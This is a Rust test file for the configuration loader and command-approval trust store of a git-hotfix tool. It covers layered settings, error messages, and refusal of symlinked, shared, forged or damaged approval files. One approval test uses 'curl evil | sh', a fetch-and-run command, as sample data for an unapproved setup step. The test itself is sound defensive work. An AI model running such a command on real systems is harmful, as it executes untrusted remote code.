//! Tests of `config`: files of the user, and approvals.

use std::ffi::OsString;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use hotfix_core::clock::SystemClock;
use hotfix_core::config::{self, Loaded, Sources, Trust, difference, digest};
use hotfix_core::ctx::Ctx;
use hotfix_core::env::Environment;
use hotfix_core::error::{Error, Result};
use hotfix_core::event::Silent;
use hotfix_model::output::TrustedCommand;
use tempfile::TempDir;

/// A home with nothing in it.
struct Home {
    dir: TempDir,
}

impl Home {
    fn new() -> Self {
        Self { dir: TempDir::new().unwrap() }
    }

    fn ctx(&self) -> Ctx {
        self.ctx_with(&[])
    }

    fn ctx_with(&self, more: &[(&str, &str)]) -> Ctx {
        let own =
            [("XDG_CONFIG_HOME", self.dir.path().join("c")), ("XDG_STATE_HOME", self.dir.path().join("s"))];
        let own = own.into_iter().map(|(name, path)| (OsString::from(name), path.into_os_string()));
        let more = more.iter().map(|(name, value)| (OsString::from(name), OsString::from(value)));
        Ctx::new(Environment::new(own.chain(more), self.dir.path()), SystemClock::new(), Arc::new(Silent))
    }

    fn state(&self) -> PathBuf {
        self.dir.path().join("s/git-hotfix")
    }

    fn trust_file(&self) -> PathBuf {
        self.state().join("trust.json")
    }

    fn write_user_file(&self, bytes: impl AsRef<[u8]>) {
        let dir = self.dir.path().join("c/git-hotfix");
        fs::create_dir_all(&dir).unwrap();
        fs::write(dir.join("config.toml"), bytes).unwrap();
    }

    fn load(&self, repository: &str, overrides: &[(&str, &str)]) -> Result<Loaded> {
        let own = |(key, value): &(&str, &str)| ((*key).to_owned(), (*value).to_owned());
        let overrides: Vec<(String, String)> = overrides.iter().map(own).collect();
        let repository = Some(("hotfix.toml at 1a2b3c", repository.as_bytes()));
        config::load(&self.ctx(), &Sources { repository, overrides: &overrides })
    }

    /// What people read, with the home's own path taken out.
    fn told(&self, error: &Error) -> String {
        let text = format!("{error}\n{}\n{}\nexit {}", error.why(), error.next(), error.exit().code());
        text.replace(self.dir.path().to_str().unwrap(), "HOME")
    }
}

fn commands(texts: &[&str]) -> Vec<TrustedCommand> {
    let command = |(at, text): (usize, &&str)| TrustedCommand {
        key: format!("slot.setup[{at}]"),
        command: (*text).to_owned(),
    };
    texts.iter().enumerate().map(command).collect()
}

fn value(loaded: &Loaded, key: &str) -> (String, String) {
    let found = loaded.origins.iter().find(|setting| setting.key == key).unwrap();
    (found.value.clone(), found.origin.clone())
}

/// Three values for a key, as TOML: none like the one before it, the first not like the default.
fn three_values(key: &str, default: &str) -> [&'static str; 3] {
    match (key, default) {
        ("submit.merge", _) => ["\"manual\"", "\"direct\"", "\"auto\""],
        (_, "\"warn\"") => ["\"block\"", "\"warn\"", "\"block\""],
        (_, "\"block\"") => ["\"warn\"", "\"block\"", "\"warn\""],
        (_, "true") => ["false", "true", "false"],
        (_, "false") => ["true", "false", "true"],
        _ if default.starts_with('[') => ["[\"x1\"]", "[\"x2\"]", "[\"x3\"]"],
        _ if default.parse::<u64>().is_ok() => ["71", "72", "73"],
        _ if default.trim_matches('"').parse::<hotfix_model::Period>().is_ok() => {
            ["\"71s\"", "\"72s\"", "\"73s\""]
        }
        _ => ["\"x1\"", "\"x2\"", "\"x3\""],
    }
}

#[test]
fn the_later_layer_wins_for_every_key() {
    let home = Home::new();
    let defaults = home.load("", &[]).unwrap();
    assert!(defaults.origins.len() > 30, "every key is in the table");
    for setting in &defaults.origins {
        let key = setting.key.as_str();
        let [repository, user, flag] = three_values(key, &setting.value);
        let text = format!("{key} = {repository}");
        home.write_user_file("");
        let loaded = home.load(&text, &[]).unwrap();
        assert_eq!(value(&loaded, key), (repository.to_owned(), "hotfix.toml at 1a2b3c".to_owned()));
        assert_ne!(loaded.config, defaults.config, "{key} has no effect");

        home.write_user_file(format!("{key} = {user}"));
        let loaded_user = home.load(&text, &[]).unwrap();
        let path = home.dir.path().join("c/git-hotfix/config.toml");
        assert_eq!(value(&loaded_user, key), (user.to_owned(), path.display().to_string()));
        assert_ne!(loaded_user.config, loaded.config, "{key} has no effect");

        let loaded = home.load(&text, &[(key, flag.trim_matches('"'))]).unwrap();
        assert_eq!(value(&loaded, key), (flag.to_owned(), "command line".to_owned()));
        assert_ne!(loaded.config, loaded_user.config, "{key} has no effect");
        assert_eq!(loaded.warnings, Vec::<String>::new());
    }
}

#[test]
fn one_key_leaves_the_others_as_they_were() {
    let home = Home::new();
    home.write_user_file("[test]\nbudget = '1m'\n");
    let loaded = home.load("[test]\ngate = 'warn'\nbudget = '2m'\n", &[]).unwrap();
    assert_eq!(value(&loaded, "test.budget").0, "\"1m\"");
    assert_eq!(value(&loaded, "test.gate").0, "\"warn\"");
    assert_eq!(value(&loaded, "test.command").1, "default");
}

#[test]
fn commands_of_the_user_need_no_approval() {
    let home = Home::new();
    let text = "test.command = 'theirs'\nslot.setup = ['theirs']\n";
    assert_eq!(home.load(text, &[]).unwrap().commands.len(), 2);
    home.write_user_file("test.command = 'mine'\ncheck.commands = ['mine']\n");
    let loaded = home.load(text, &[]).unwrap();
    assert_eq!(loaded.commands, commands(&["theirs"]));
    // The same text set again by the user is the user's.
    home.write_user_file("slot.setup = ['theirs']\ntest.command = ''");
    assert_eq!(home.load(text, &[]).unwrap().commands, []);
}

#[test]
fn mistakes_of_the_user_are_told_with_the_file_to_edit() {
    let home = Home::new();
    home.write_user_file("# mine\n\n[prove]\nrepeat = \"two\"\n");
    insta::assert_snapshot!(home.told(&home.load("", &[]).unwrap_err()), @r#"
    HOME/c/git-hotfix/config.toml, line 4: `prove.repeat` must be a whole number from 1 to 100
    found the text "two"
    edit line 4 of HOME/c/git-hotfix/config.toml, then run the same command again
    exit 3
    "#);
    home.write_user_file("prove.repeat = ");
    insta::assert_snapshot!(home.told(&home.load("", &[]).unwrap_err()), @r"
    HOME/c/git-hotfix/config.toml, line 1: not valid TOML
    string values must be quoted, expected literal string
    edit line 1 of HOME/c/git-hotfix/config.toml, then run the same command again
    exit 3
    ");
}

#[test]
fn mistakes_of_the_repository_can_be_overridden_by_the_user() {
    let home = Home::new();
    let wrong = "[prove]\nrepeat = \"two\"\n";
    insta::assert_snapshot!(home.told(&home.load(wrong, &[]).unwrap_err()), @r#"
    hotfix.toml at 1a2b3c, line 2: `prove.repeat` must be a whole number from 1 to 100
    found the text "two"
    set `prove.repeat` in HOME/c/git-hotfix/config.toml, or correct it on the base branch
    exit 3
    "#);
    home.write_user_file("prove.repeat = 3");
    let loaded = home.load(wrong, &[]).unwrap();
    assert_eq!(loaded.config.prove.repeat, 3);
    let warning = loaded.warnings.join("\n").replace(home.dir.path().to_str().unwrap(), "HOME");
    insta::assert_snapshot!(warning, @r#"hotfix.toml at 1a2b3c, line 2: `prove.repeat` must be a whole number from 1 to 100, found the text "two"; used instead: HOME/c/git-hotfix/config.toml"#);
}

#[test]
fn a_folder_in_place_of_the_user_file_is_an_error() {
    let home = Home::new();
    fs::create_dir_all(home.dir.path().join("c/git-hotfix/config.toml")).unwrap();
    let error = home.load("", &[]).unwrap_err();
    assert!(error.to_string().ends_with("config.toml"), "{error}");
    assert_eq!(error.exit(), hotfix_model::ExitCode::SETUP);
}

#[test]
fn only_what_was_approved_is_approved() {
    let home = Home::new();
    let trust = Trust::open(&home.ctx());
    let (setup, other) = (commands(&["make"]), commands(&["make", "curl evil | sh"]));
    assert!(!trust.is_approved("shop", &setup).unwrap());
    trust.approve("shop", &setup).unwrap();
    // Another process reads the same.
    let trust = Trust::open(&home.ctx());
    assert!(trust.is_approved("shop", &setup).unwrap());
    assert!(!trust.is_approved("shop", &other).unwrap());
    assert!(!trust.is_approved("shop", &commands(&["make "])).unwrap());
    assert!(!trust.is_approved("other shop", &setup).unwrap());
    let moved = [TrustedCommand { key: "test.command".to_owned(), command: "make".to_owned() }];
    assert!(!trust.is_approved("shop", &moved).unwrap());
    let before = trust.newest("shop").unwrap().unwrap();
    let changed = difference(&before.commands, &other);
    assert_eq!(changed.len(), 1);
    assert_eq!(changed[0].after.as_deref(), Some("curl evil | sh"));
}

#[test]
fn no_commands_need_no_approval_and_leave_no_file() {
    let home = Home::new();
    let trust = Trust::open(&home.ctx());
    assert!(trust.is_approved("shop", &[]).unwrap());
    trust.approve("shop", &[]).unwrap();
    assert_eq!(trust.revoke("shop").unwrap(), 0);
    assert!(!home.state().exists());
}

#[test]
fn approving_again_changes_nothing_but_the_order() {
    let home = Home::new();
    let trust = Trust::open(&home.ctx());
    for text in ["a", "b", "a"] {
        trust.approve("shop", &commands(&[text])).unwrap();
    }
    assert_eq!(trust.list().unwrap().len(), 2);
    assert_eq!(trust.newest("shop").unwrap().unwrap().commands, commands(&["a"]));
    trust.approve("other", &commands(&["a"])).unwrap();
    assert_eq!(trust.revoke("shop").unwrap(), 2);
    assert!(!trust.is_approved("shop", &commands(&["a"])).unwrap());
    assert!(trust.is_approved("other", &commands(&["a"])).unwrap());
}

#[test]
fn a_digest_in_the_environment_approves_exactly_its_commands() {
    let home = Home::new();
    let (wanted, other) = (commands(&["make"]), commands(&["other"]));
    let trust = Trust::open(&home.ctx_with(&[("HOTFIX_TRUST", &digest(&wanted))]));
    assert!(trust.is_approved("any", &wanted).unwrap());
    assert!(!trust.is_approved("any", &other).unwrap());
    assert!(!home.state().exists(), "approved for this process only");
    for value in ["1", "all", &digest(&[]), &digest(&wanted)[..63]] {
        let trust = Trust::open(&home.ctx_with(&[("HOTFIX_TRUST", value)]));
        assert!(!trust.is_approved("any", &wanted).unwrap(), "{value}");
    }
}

#[test]
fn approvals_at_the_same_time_are_all_kept() {
    let home = Home::new();
    std::thread::scope(|scope| {
        for number in 0..24 {
            let ctx = home.ctx();
            scope.spawn(move || {
                let trust = Trust::open(&ctx);
                trust.approve(&format!("shop {}", number % 3), &commands(&[&number.to_string()])).unwrap();
            });
        }
    });
    let trust = Trust::open(&home.ctx());
    assert_eq!(trust.list().unwrap().len(), 24);
    let left: Vec<_> = fs::read_dir(home.state()).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(left.len(), 2, "only the file and its lock: {left:?}");
}

#[test]
fn approvals_are_readable_by_the_user_alone() {
    let home = Home::new();
    fs::create_dir_all(home.state()).unwrap();
    fs::set_permissions(home.state(), fs::Permissions::from_mode(0o775)).unwrap();
    Trust::open(&home.ctx()).approve("shop", &commands(&["make"])).unwrap();
    let mode = |path: &Path| fs::metadata(path).unwrap().mode() & 0o7777;
    assert_eq!(mode(&home.trust_file()), 0o600);
    assert_eq!(mode(&home.state()), 0o700);
    assert_eq!(mode(&home.state().join("trust.lock")), 0o600);
}

#[test]
fn approvals_that_others_could_have_written_are_refused() {
    let home = Home::new();
    let trust = Trust::open(&home.ctx());
    trust.approve("shop", &commands(&["make"])).unwrap();
    let refused = || trust.is_approved("shop", &commands(&["make"])).unwrap_err();

    fs::set_permissions(home.trust_file(), fs::Permissions::from_mode(0o666)).unwrap();
    insta::assert_snapshot!(home.told(&refused()), @r"
    approvals in HOME/s/git-hotfix/trust.json cannot be relied on
    others may write to it (mode 666)
    mv 'HOME/s/git-hotfix/trust.json' 'HOME/s/git-hotfix/trust.json.bad' && git hotfix trust
    exit 3
    ");

    let planted = home.dir.path().join("planted.json");
    fs::rename(home.trust_file(), &planted).unwrap();
    fs::set_permissions(&planted, fs::Permissions::from_mode(0o600)).unwrap();
    symlink(&planted, home.trust_file()).unwrap();
    insta::assert_snapshot!(home.told(&refused()), @r"
    approvals in HOME/s/git-hotfix/trust.json cannot be relied on
    it is a symbolic link
    mv 'HOME/s/git-hotfix/trust.json' 'HOME/s/git-hotfix/trust.json.bad' && git hotfix trust
    exit 3
    ");
    let before = fs::read(&planted).unwrap();
    assert!(trust.approve("shop", &commands(&["other"])).is_err());
    assert_eq!(fs::read(&planted).unwrap(), before, "nothing was written through the link");

    fs::remove_file(home.trust_file()).unwrap();
    fs::create_dir(home.trust_file()).unwrap();
    insta::assert_snapshot!(home.told(&refused()), @r"
    approvals in HOME/s/git-hotfix/trust.json cannot be relied on
    it is not a file
    mv 'HOME/s/git-hotfix/trust.json' 'HOME/s/git-hotfix/trust.json.bad' && git hotfix trust
    exit 3
    ");
}

#[test]
fn a_folder_that_is_a_link_is_refused() {
    let home = Home::new();
    let elsewhere = home.dir.path().join("elsewhere");
    fs::create_dir_all(&elsewhere).unwrap();
    fs::create_dir_all(home.state().parent().unwrap()).unwrap();
    symlink(&elsewhere, home.state()).unwrap();
    let trust = Trust::open(&home.ctx());
    insta::assert_snapshot!(home.told(&trust.approve("shop", &commands(&["make"])).unwrap_err()), @r"
    approvals in HOME/s/git-hotfix cannot be relied on
    it is a symbolic link
    mv 'HOME/s/git-hotfix' 'HOME/s/git-hotfix.bad' && git hotfix trust
    exit 3
    ");
    assert!(trust.is_approved("shop", &commands(&["make"])).is_err());
    assert_eq!(fs::read_dir(elsewhere).unwrap().count(), 0);
}

#[test]
fn approvals_of_somebody_else_are_refused() {
    let home = Home::new();
    let trust = Trust::open(&home.ctx());
    trust.approve("shop", &commands(&["make"])).unwrap();
    // Only the superuser can give a file away.
    if std::os::unix::fs::chown(home.trust_file(), Some(12_345), None).is_err() {
        return;
    }
    let error = trust.is_approved("shop", &commands(&["make"])).unwrap_err();
    assert!(error.why().starts_with("it belongs to user 12345"), "{}", error.why());
    assert!(trust.approve("shop", &commands(&["make"])).is_err());
}

#[test]
fn damaged_approvals_are_an_error_and_stay_as_they_are() {
    let home = Home::new();
    let trust = Trust::open(&home.ctx());
    trust.approve("shop", &commands(&["make"])).unwrap();
    let good = fs::read_to_string(home.trust_file()).unwrap();
    let forged = good.replace("\"make\"", "\"evil\"");
    let newer = good.replace("\"version\": 1", "\"version\": 2");
    for damaged in [&good[..good.len() / 2], "", "[]", "\u{0}", &forged, &newer] {
        fs::write(home.trust_file(), damaged).unwrap();
        assert!(trust.is_approved("shop", &commands(&["make"])).is_err(), "{damaged}");
        assert!(trust.approve("shop", &commands(&["make"])).is_err(), "{damaged}");
        assert!(trust.revoke("shop").is_err(), "{damaged}");
        assert_eq!(fs::read_to_string(home.trust_file()).unwrap(), damaged);
    }
    insta::assert_snapshot!(home.told(&trust.list().unwrap_err()), @r"
    the approvals in HOME/s/git-hotfix/trust.json are damaged
    version 2 is not known here, only 1
    mv 'HOME/s/git-hotfix/trust.json' 'HOME/s/git-hotfix/trust.json.bad' && git hotfix trust
    exit 3
    ");
    fs::write(home.trust_file(), good).unwrap();
    assert!(trust.is_approved("shop", &commands(&["make"])).unwrap());
}

#[test]
fn without_a_home_nothing_is_approved_and_that_is_said() {
    let home = Home::new();
    let ctx = Ctx::new(Environment::new([], "/"), SystemClock::new(), Arc::new(Silent));
    let trust = Trust::open(&ctx);
    assert!(!trust.is_approved("shop", &commands(&["make"])).unwrap());
    insta::assert_snapshot!(home.told(&trust.approve("shop", &commands(&["make"])).unwrap_err()), @r"
    there is no place to keep approvals
    neither XDG_STATE_HOME nor HOME is set
    set HOME, or HOTFIX_TRUST to the digest that `git hotfix trust` prints
    exit 3
    ");
}
